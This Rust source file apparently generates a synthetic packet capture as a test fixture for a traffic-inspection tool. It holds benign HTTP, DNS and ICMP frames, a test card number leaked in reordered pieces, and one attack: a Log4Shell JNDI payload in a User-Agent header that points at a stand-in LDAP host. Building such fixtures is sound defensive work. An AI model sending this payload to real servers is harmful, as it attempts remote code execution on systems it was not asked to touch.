//! A small capture that Weir makes itself: harmless traffic, one attack and one leak, the same at every call.
//!
//! It is what a tap would have seen without an engine in the way: the attack is answered, the leak arrives.

use std::io::{self, Write};
use std::net::SocketAddr;

use dataplane::decode::LinkType;
use dataplane::flow::Direction;

use crate::io::pcap::CaptureWriter;

mod connection;
mod conversation;
pub mod frame;

pub use connection::{Connection, Ends};

pub(crate) use conversation::Conversation;

const STEP_NS: u64 = 250_000;
/// 2024-01-01T00:00:00Z
const START_NS: u64 = 1_704_067_200_000_000_000;

/// Writes the capture.
///
/// # Errors
/// If `writer` fails.
pub fn write<W: Write>(writer: W) -> io::Result<()> {
    let mut capture = CaptureWriter::new(writer, LinkType::Ethernet)?;
    for (index, frame) in (0..).zip(frames()) {
        capture.write(&frame, START_NS + index * STEP_NS, frame.len() as u32)?;
    }
    capture.finish().map(drop)
}

/// The frames in the order of the capture.
pub fn frames() -> Vec<Vec<u8>> {
    [benign_page(), attack(), leak(), upload_in_vlan(), datagrams()].concat()
}

fn benign_page() -> Vec<Vec<u8>> {
    let mut page = Conversation::new(ends(["192.0.2.10:40001", "198.51.100.80:80"]), &[]);
    page.open();
    page.send(
        Direction::ToServer,
        b"GET /index.html HTTP/1.1\r\nHost: www.example\r\nUser-Agent: sample/1.0\r\n\r\n",
    );
    page.acknowledge(Direction::ToClient);
    page.send(
        Direction::ToClient,
        b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: 20\r\n\r\n<p>Hello, world.</p>",
    );
    page.acknowledge(Direction::ToServer);
    page.close();
    page.into_frames()
}

/// Log4Shell (CVE-2021-44228) in a header.
fn attack() -> Vec<Vec<u8>> {
    let mut attack = Conversation::new(ends(["203.0.113.66:40002", "198.51.100.80:80"]), &[]);
    attack.open();
    attack.send(
        Direction::ToServer,
        b"GET /login HTTP/1.1\r\nHost: www.example\r\nUser-Agent: ${jndi:ldap://203.0.113.66:1389/a}\r\n\r\n",
    );
    attack.acknowledge(Direction::ToClient);
    attack.send(Direction::ToClient, b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
    attack.acknowledge(Direction::ToServer);
    attack.close();
    attack.into_frames()
}

/// A test card number in a response, cut in the middle, the pieces in the wrong order.
fn leak() -> Vec<Vec<u8>> {
    let mut leak = Conversation::new(ends(["[2001:db8::10]:40003", "[2001:db8::80]:8080"]), &[]);
    leak.open();
    leak.send(Direction::ToServer, b"GET /export?table=cards HTTP/1.1\r\nHost: api.example\r\n\r\n");
    leak.acknowledge(Direction::ToClient);
    let head = b"HTTP/1.1 200 OK\r\nContent-Type: text/csv\r\nContent-Length: 55\r\n\r\nname,card\r\n";
    leak.send(Direction::ToClient, head);
    let pieces: [&[u8]; 3] = [b"A. Holder,4111 11", b"11 1111 1", b"111\r\nB. Holder,-\r\n"];
    pieces.iter().for_each(|piece| leak.send(Direction::ToClient, piece));
    leak.swap_last(2);
    leak.acknowledge(Direction::ToServer);
    leak.close();
    leak.into_frames()
}

/// A chunked upload on a tagged network.
fn upload_in_vlan() -> Vec<Vec<u8>> {
    let mut upload = Conversation::new(ends(["192.0.2.20:40004", "198.51.100.81:80"]), &[100]);
    upload.open();
    upload.send(
        Direction::ToServer,
        b"POST /notes HTTP/1.1\r\nHost: notes.example\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nfirst\r\n",
    );
    upload.send(Direction::ToServer, b"7\r\n second\r\n0\r\n\r\n");
    upload.acknowledge(Direction::ToClient);
    upload.send(
        Direction::ToClient,
        b"HTTP/1.1 201 Created\r\nLocation: /notes/1\r\nContent-Length: 0\r\n\r\n",
    );
    upload.acknowledge(Direction::ToServer);
    upload.close();
    upload.into_frames()
}

/// A DNS query for `www.example` with its answer, and an echo request with its reply.
fn datagrams() -> Vec<Vec<u8>> {
    let question = b"\x03www\x07example\x00\x00\x01\x00\x01";
    let query = [&b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"[..], question].concat();
    let resource = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x01\x2c\x00\x04\xc6\x33\x64\x50";
    let answer = [&b"\x12\x34\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00"[..], question, resource].concat();
    let [client, server] = ends(["192.0.2.10:40005", "192.0.2.53:53"]);
    let echo = b"\x00\x01\x00\x01echo echo echo";
    vec![
        frame::udp([client, server], &[], &query),
        frame::udp([server, client], &[], &answer),
        frame::icmp_v4([client.ip(), server.ip()], 8, echo),
        frame::icmp_v4([server.ip(), client.ip()], 0, echo),
    ]
}

fn ends(texts: [&str; 2]) -> [SocketAddr; 2] {
    texts.map(|text| text.parse().expect("an address of this file"))
}

#[cfg(test)]
mod tests;
